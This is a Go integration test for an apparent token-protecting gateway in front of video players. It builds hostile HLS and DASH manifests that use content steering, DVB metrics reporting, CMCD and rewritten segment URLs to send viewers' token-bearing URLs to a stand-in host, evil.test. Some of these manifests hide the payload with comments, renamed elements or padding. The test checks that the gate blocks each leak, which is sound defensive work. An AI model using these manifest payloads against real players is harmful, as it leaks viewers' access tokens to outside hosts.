package integration

import (
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"path"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
)

// steering is what a steering server answers: play a copy of the pathway A on
// evil.test. The URLs of the copy have the path of the original, with the token.
const steering = `{"VERSION":1,"TTL":1,"PATHWAY-PRIORITY":["E","A"],"PATHWAY-CLONES":[{"BASE-ID":"A","ID":"E","URI-REPLACEMENT":{"HOST":"evil.test"}}]}`

const (
	pathwayA = `<BaseURL serviceLocation="A">./</BaseURL>`
	metrics  = `<Metrics metrics="HttpList(10)"><Reporting schemeIdUri="urn:dvb:dash:reporting:2014" value="1" dvb:reportingUrl="EVIL/report" dvb:probability="1000"/></Metrics>`
	patch    = `<Patch mpdId="x" originalPublishTime="2026-01-01T00:00:00Z" publishTime="2026-01-01T00:00:01Z"><replace sel="/MPD/@publishTime">2026-01-01T00:00:01Z</replace>` +
		`<add sel="/MPD" pos="prepend">` + metrics + `</add></Patch>`
)

// hostileManifests replace parts of the manifests of the clip, by patterns. EVIL is
// the address of evil.test. What is not refused still plays.
var hostileManifests = []struct {
	name, how, suffix string
	replaced          []string
}{
	{"steering by data", "hls.js", "video.m3u8", hlsSteering("#", "data:application/json,"+url.PathEscape(steering))},
	{"steering in the folder, in a comment", "hls.js", "video.m3u8", hlsSteering("# x #", "steering.json")},
	{"steering elsewhere", "shaka", "video.m3u8", hlsSteering("#", "EVIL/steering.json")},
	{"tag after a slash", "shaka", "video.m3u8", hlsSteering("/", "steering.json")},
	{"steering of an MPD", "shaka", "video.mpd", []string{"<Period ", pathwayA + `<ContentSteering defaultServiceLocation="A">steering.json</ContentSteering>$0`}},
	{"steering of an MPD", "dash.js", "video.mpd", []string{"<Period ", pathwayA + `<x:ContentSteering xmlns:x="urn:x" defaultServiceLocation="A" queryBeforeStart="true">EVIL/steering.json</x:ContentSteering>$0`}},
	{"metrics", "dash.js", "video.mpd", []string{"<Period ", metrics + "$0"}},
	{"metrics under a name that tells nothing", "dash.js", "stream.php", []string{"<MPD", "<!-- " + strings.Repeat("x ", 3000) + "-->$0", "<Period ", metrics + "$0"}},
	{"metrics by another name", "dash.js", "video.mpd", []string{"<Period ", strings.NewReplacer("<Metrics", `<SupplementalProperty nodeName="Metrics"`, "/Metrics", "/SupplementalProperty").Replace(metrics) + "$0"}},
	{"metrics in a comment", "dash.js", "video.mpd", []string{"<Period ", "<!-->" + metrics + "-->$0"}},
	{"metrics in an instruction", "dash.js", "video.mpd", []string{"<Period ", "<?x >" + metrics + "?>$0"}},
	{"metrics by a patch", "dash.js", "video.mpd", []string{
		`type="static"`, `type="dynamic" id="x" publishTime="2026-01-01T00:00:00Z" minimumUpdatePeriod="PT1S" availabilityStartTime="START"`,
		"<Period ", `<PatchLocation>patch.xml</PatchLocation><UTCTiming schemeIdUri="urn:mpeg:dash:utc:direct:2014" value="NOW"/>$0`,
	}},
	{"client data", "dash.js", "video.mpd", []string{
		`<ServiceDescription id="0">`, `$0<ClientDataReporting><CMCDParameters schemeIdUri="urn:mpeg:dash:cta-5004:2023" version="1" keys="nor" includeInRequests="segment" mode="query"/></ClientDataReporting>`,
		`(?s)<SegmentTemplate timescale="48000".*?</SegmentTemplate>`, `<SegmentList timescale="48000" duration="96000"><Initialization sourceURL="../audio/init.mp4"/>` +
			`<SegmentURL media="EVIL/x/audio/001.m4s"/><SegmentURL media="../audio/002.m4s"/><SegmentURL media="EVIL/x/audio/003.m4s"/><SegmentURL media="../audio/004.m4s"/></SegmentList>`,
	}},
}

func hlsSteering(before, server string) []string {
	return []string{"#EXT-X-INDEPENDENT-SEGMENTS", before + `EXT-X-CONTENT-STEERING:SERVER-URI="` + server + `",PATHWAY-ID="A"`, "-STREAM-INF:", `${0}PATHWAY-ID="A",`}
}

// hostileMedia serves the clip below /hostile0/, /hostile1/ and so on, each with one
// of the hostile manifests.
func hostileMedia(evil string) http.Handler {
	media := exampleMedia()
	started := time.Now().Add(-clipSeconds * time.Second)
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		folder, file, _ := strings.Cut(r.URL.Path[1:], "/")
		name := path.Base(file)
		text := map[string]string{"steering.json": steering, "patch.xml": patch}[name]
		if number, err := strconv.Atoi(strings.TrimPrefix(folder, "hostile")); err == nil && name == hostileManifests[number].suffix {
			data, _ := os.ReadFile("../examples/media/demo/" + strings.Replace(file, "stream.php", "video.mpd", 1))
			text = string(data)
			for pair := range slices.Chunk(hostileManifests[number].replaced, 2) {
				text = regexp.MustCompile(pair[0]).ReplaceAllString(text, pair[1])
			}
		}
		if text == "" {
			r.URL.Path = "/demo/" + file
			media.ServeHTTP(w, r)
			return
		}
		_, _ = io.WriteString(w, strings.NewReplacer("EVIL", evil, "START", started.UTC().Format(time.RFC3339), "NOW", time.Now().UTC().Format(time.RFC3339)).Replace(text))
	})
}

// A hostile manifest has no player at its defaults give the viewer's URL to another
// host, or ask a steering server. Without the gate, each of them does.
func TestHostileManifests(t *testing.T) {
	t.Parallel()
	evil := startOrigin(t, hostileMedia(""))
	evilURL := strings.Replace(evil.server.URL, "127.0.0.1", "evil.test", 1)
	o := startOrigin(t, hostileMedia(evilURL))
	g := start(t, o, config{})
	page := startPlayersPage(t)
	header, _, _ := strings.Cut(mint(t, "x", nil), ".") // of every token
	t.Cleanup(func() {
		if got := fmt.Sprint(evil.take()); strings.Contains(got, header) {
			t.Errorf("evil.test got a token: %s", got)
		}
	})
	for i, m := range hostileManifests {
		t.Run(m.how+", "+m.name, func(t *testing.T) {
			t.Parallel()
			video := fmt.Sprint("hostile", i)
			for own, secret := range map[string]string{o.server.URL + "/": video, g.url("/"): mint(t, video, nil)} {
				p := openTab(t)
				p.open(t, page)
				got := play(t, p, m.how, own+secret+"/manifest/"+m.suffix, 1, 3, "{}")
				leaked := func() bool {
					return slices.ContainsFunc(p.asked(), func(address string) bool {
						return strings.Contains(address, secret) && !strings.HasPrefix(address, own) || strings.Contains(address, "/steering.json")
					})
				}
				if secret == video {
					eventually(t, "an attack that works without the gate", leaked)
					continue
				}
				if leaked() {
					t.Errorf("the player asked for %q", p.asked())
				}
				if status := g.get(t, "/"+secret+"/manifest/"+m.suffix).StatusCode; (got.End == "played") != (status == http.StatusOK) {
					t.Errorf("%d, and playing ended with %+v", status, got)
				}
			}
		})
	}
}
